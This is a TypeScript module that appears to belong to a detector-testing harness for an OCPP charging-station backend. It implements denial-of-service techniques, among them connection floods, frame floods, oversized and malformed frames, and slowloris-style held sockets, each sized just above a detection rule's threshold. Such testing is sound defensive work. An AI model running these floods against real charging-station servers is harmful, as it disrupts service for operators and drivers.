import { connect as tcpConnect, type Socket } from 'node:net';
import { pause } from '../pause.js';
import { answered, bootedAs, checkBounds, connectAs, drain, flushed, nonce, remainingMs, tryUpgrade } from './common.js';
import type { AttackContext, Technique } from './types.js';

/**
 * DoS (T1). Sizes sit just above the built-in rules' thresholds (rules.ts) so a run stays
 * small: 70 upgrades/min per address (60), 25 per identity (20), 400 frames/10 s (300),
 * 3 oversized frames (3), 12 unreadable frames (10 at ≥ 20 %).
 */

/** Holds raw TCP sockets that send half an HTTP upgrade and then nothing (slowloris). */
async function slowSockets(ctx: AttackContext, n: number): Promise<void> {
  const u = new URL(ctx.url);
  const port = Number(u.port || (u.protocol === 'wss:' ? 443 : 80));
  const sockets: Socket[] = [];
  const open = new Set<Socket>();
  for (let i = 0; i < n; i++) {
    checkBounds(ctx);
    ctx.sent();
    const s = tcpConnect({ host: u.hostname.replace(/^\[|\]$/g, ''), port, ...(ctx.source !== undefined && { localAddress: ctx.source }) });
    s.on('error', () => undefined);
    s.once('connect', () => s.write(`GET ${u.pathname.replace(/\/+$/, '')}/SLOW${nonce(3)} HTTP/1.1\r\nHost: ${u.host}\r\nUpgrade: websocket\r\n`));
    s.once('close', () => open.delete(s));
    open.add(s);
    sockets.push(s);
  }
  // held until the server gives up on them, or our own bound
  const until = Date.now() + Math.min(ctx.holdMs, remainingMs(ctx));
  while (open.size > 0 && Date.now() < until && !ctx.signal.aborted) await pause(100, ctx.signal);
  for (const s of sockets) s.destroy();
}

export const dosTechniques: Technique[] = [
  {
    name: 'connection-flood-ip', detector: 'connectionRatePerIp', needs: { stations: 0 },
    // identities nobody registered: each attempt costs the CSMS a lookup and is refused
    async run(ctx) {
      const tag = nonce(3);
      const statuses: number[] = [];
      for (let i = 0; i < 70; i += 10) {
        checkBounds(ctx);
        statuses.push(...await Promise.all(Array.from({ length: 10 }, (_, k) => tryUpgrade(ctx, `FLOOD-${tag}-${i + k}`))));
      }
      answered(statuses);
    },
  },
  {
    name: 'connection-flood-identity', detector: 'connectionRatePerIdentity', needs: { stations: 1 },
    // the right credentials, reconnecting as fast as the CSMS lets it: no password is guessed (that is T4)
    async run(ctx) {
      const st = ctx.stations[0]!;
      const statuses: number[] = [];
      for (let i = 0; i < 25; i++) {
        checkBounds(ctx);
        statuses.push(await tryUpgrade(ctx, st.id, { password: st.password }));
      }
      answered(statuses);
    },
  },
  {
    name: 'frame-flood', detector: 'frameRate', needs: { stations: 1 },
    async run(ctx) {
      const c = await bootedAs(ctx, ctx.stations[0]!);
      for (let i = 0; i < 400; i++) c.send(JSON.stringify([2, `flood-${i}`, 'Heartbeat', {}]));
      ctx.sent(400);
      await flushed(c);
      // the answers are throttled once the rule fires; a few show the frames were read
      await drain(c, 5, 2000);
      await c.end();
    },
  },
  {
    name: 'oversized-frames', detector: 'oversizedFrame', needs: { stations: 1 },
    // each oversized message costs the connection (1009): reconnect and send the next
    async run(ctx) {
      const st = ctx.stations[0]!;
      for (let i = 0; i < 3; i++) {
        const c = await connectAs(ctx, st);
        c.send(JSON.stringify([2, `big-${i}`, 'DataTransfer', { vendorId: 'ATTACK', data: 'x'.repeat(ctx.frameBytes) }]));
        ctx.sent();
        await Promise.race([c.closed, pause(Math.min(5000, remainingMs(ctx)), ctx.signal)]);
        await c.end();
      }
    },
  },
  {
    name: 'bad-frames', detector: 'badFrames', needs: { stations: 1 },
    async run(ctx) {
      const c = await bootedAs(ctx, ctx.stations[0]!);
      const junk = (i: number) => [`[2, "b${i}", "Heartbeat", {`, '{"not":"an ocpp frame"}', `[2, "b${i}", "StatusNotification", {"connectorId":"x"}]`, '[7]'][i % 4]!;
      for (let i = 0; i < 12; i++) c.send(junk(i));
      ctx.sent(12);
      await drain(c, 12);
      await c.end();
    },
  },
  {
    name: 'slow-handshake', detector: 'slowHandshake', needs: { stations: 0 },
    async run(ctx) {
      await slowSockets(ctx, 20);
    },
  },
  {
    name: 'half-open', detector: 'slowHandshake', needs: { stations: 5 },
    // upgraded with the right credentials, then never a frame: sockets that hold slots for nothing, one per
    // identity (a second socket of one identity would only take over the first)
    async run(ctx) {
      const clients = [];
      for (const station of ctx.stations) clients.push(await connectAs(ctx, station).catch(() => undefined));
      const until = Date.now() + Math.min(ctx.holdMs, remainingMs(ctx));
      while (clients.some((c) => c?.isOpen) && Date.now() < until && !ctx.signal.aborted) await pause(100, ctx.signal);
      for (const c of clients) await c?.end();
    },
  },
  {
    name: 'boot-burst', detector: 'bootBurst', needs: { stations: 1 },
    // a burst of CALLs right after the boot, pipelined (a real station waits for each answer)
    async run(ctx) {
      const c = await bootedAs(ctx, ctx.stations[0]!);
      for (let i = 0; i < 250; i++) c.send(JSON.stringify([2, `burst-${i}`, 'StatusNotification', { connectorId: 1, errorCode: 'NoError', status: i % 2 ? 'Available' : 'Preparing' }]));
      ctx.sent(250);
      await flushed(c);
      await drain(c, 250);
      await c.end();
    },
  },
];
